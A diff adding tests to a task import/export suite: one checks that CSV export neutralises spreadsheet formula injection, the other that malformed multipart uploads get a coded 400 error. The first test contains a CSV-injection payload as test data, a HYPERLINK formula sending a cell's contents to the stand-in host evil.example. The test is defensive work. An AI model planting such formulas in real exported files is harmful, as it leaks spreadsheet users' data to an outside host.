@@ -9,6 +9,7 @@ import { TaskExportService } from '../src/import-export/task-export.service';
 import { TaskImportService } from '../src/import-export/task-import.service';
 import { ImportFormat } from '../src/import-export/import-format';
 import { TASK_COLUMNS } from '../src/import-export/task-row.rules';
+import { CREATE_TASK } from './support/admin-fixtures';
 import { ADMIN_TOKEN, bootTestApp, expectError, TestApp, uniq } from './support/test-app';
 
 const run = promisify(execFile);
@@ -145,6 +146,22 @@ describe('task import and export', () => {
         startDate: '2024-01-01', dueDate: '2026-12-31', version: 2, latestUpdateDate: '2025-03-01',
       });
       expect(doc.tasks[2].title).toBe('=SUM(A1:A2) 公式样的标题');
+    });
+
+    it('keeps a title with line breaks in its own row and no cell a spreadsheet would run, read with a CSV reader', async () => {
+      const plan = await newPlan();
+      const titles = ['\n=HYPERLINK("http://evil.example/?x="&A1,"点击")', '\r@SUM(1)', 'a\rb\nc\r\nd', ' =1+1', '\t-2', '\u200b+3'];
+      for (const [i, title] of titles.entries()) {
+        const res = await t.gql(CREATE_TASK, { input: { planCode: plan.code, code: `L-${i}`, title, leadAgencies: ['=危险|机构'.replace('|', '')] } });
+        expect(res.errors).toBeUndefined();
+      }
+      const csv = await exportCsv(plan.code);
+      const records: Record<string, string>[] = parse(csv, { bom: true, columns: true });
+      expect(records.map((r) => r.code)).toEqual(['K-01', 'K-01-1', 'K-02', 'K-03', ...titles.map((_, i) => `L-${i}`)]);
+      const formula = /^[\s\p{Cc}\p{Cf}]*[=+\-@]/u;
+      for (const r of records) for (const cell of Object.values(r)) expect(cell).not.toMatch(formula);
+      expect(records.slice(4).map((r) => r.title)).toEqual(titles.map((x) => `'${x}`.replace("'a", 'a')));
+      expect(await imported(plan.code, csv)).toEqual({ created: 0, updated: 0, unchanged: 4 + titles.length, errors: [] });
     });
 
     it('reads the rows in one statement', async () => {
@@ -457,6 +474,27 @@ describe('task import and export', () => {
       for (const [token, body, status, code] of cases) {
         const res = await rest('POST', '/import/tasks', token, body);
         expect([res.statusCode, JSON.parse(res.body).error?.code]).toEqual([status, code]);
+      }
+      const [{ n }] = await t.ds.query('SELECT count(*)::int AS n FROM task WHERE plan_id = $1', [plan.id]);
+      expect(n).toBe(5);
+    });
+
+    it('answers malformed multipart bodies with 400 BAD_USER_INPUT in the coded shape', async () => {
+      const plan = await newPlan();
+      const b = `----io${uniq()}`;
+      const bodies: [string, string][] = [
+        // The body ends inside a part: no closing boundary.
+        [`multipart/form-data; boundary=${b}`, `--${b}\r\nContent-Disposition: form-data; name="planCode"\r\n\r\n${plan.code}\r\n--${b}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\ncode,title\nX,t`],
+        // Part headers that never end.
+        [`multipart/form-data; boundary=${b}`, `--${b}\r\nContent-Disposition: form-data; name="file"; filename="a.csv"`],
+        // No boundary at all.
+        ['multipart/form-data', 'code,title\nX,t\n'],
+        // Garbage where the first boundary should be.
+        [`multipart/form-data; boundary=${b}`, 'not a multipart body at all'],
+      ];
+      for (const [contentType, payload] of bodies) {
+        const res = await rest('POST', '/import/tasks', ADMIN_TOKEN, { payload, headers: { 'content-type': contentType } });
+        expect([res.statusCode, JSON.parse(res.body).error]).toEqual([400, { code: 'BAD_USER_INPUT', field: 'body', message: expect.stringMatching(/multipart/) }]);
       }
       const [{ n }] = await t.ds.query('SELECT count(*)::int AS n FROM task WHERE plan_id = $1', [plan.id]);
       expect(n).toBe(5);
